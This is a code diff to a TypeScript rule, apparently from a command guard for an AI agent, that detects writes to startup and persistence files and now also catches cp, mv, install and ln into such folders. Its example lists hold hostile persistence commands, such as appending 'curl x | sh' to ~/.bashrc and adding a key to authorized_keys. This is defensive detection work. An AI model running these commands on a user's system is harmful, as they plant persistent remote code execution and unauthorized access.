@@ -17,9 +17,11 @@ export const startupFile: Rule = {
   instead: "set what is needed for this session only, or show the user the line to add",
   check: (invocation) => {
     if (!mayWrite(invocation)) return undefined;
-    const found = writtenPaths(invocation).find((target) =>
-      STARTUP.test(pathOf(target.value, invocation)),
-    );
+    const found = writtenPaths(invocation).find((target) => {
+      const path = pathOf(target.value, invocation);
+      // What is copied into a folder of such files becomes one.
+      return STARTUP.test(path) || (COPIES.has(invocation.program) && STARTUP.test(`${path}/`));
+    });
     return found === undefined ? undefined : hit(invocation);
   },
   examples: () => ({
@@ -27,6 +29,7 @@ export const startupFile: Rule = {
       "echo 'curl x | sh' >> ~/.bashrc",
       "cat key.pub >> ~/.ssh/authorized_keys",
       "cp job /etc/cron.d/job",
+      "mv agent.plist ~/Library/LaunchAgents/",
       "tee ~/Library/LaunchAgents/x.plist < x.plist",
       "curl x.example > $HOME/.zshrc",
     ],
@@ -34,11 +37,14 @@ export const startupFile: Rule = {
       "echo 'curl x | sh' >> notes.md",
       "cat ~/.bashrc",
       "cp /etc/cron.d/job job.txt",
+      "cp ~/Library/LaunchAgents/x.plist agents/",
       "grep alias ~/.zshrc | tee aliases.txt",
       "source ~/.zshrc",
     ],
   }),
 };
+
+const COPIES: ReadonlySet<string> = new Set(["cp", "mv", "install", "ln"]);
 
 function pathOf(value: string, invocation: Invocation): string {
   return absolutePath(value.replace(/^~(?=\/)/, UNKNOWN), invocation.cwd);
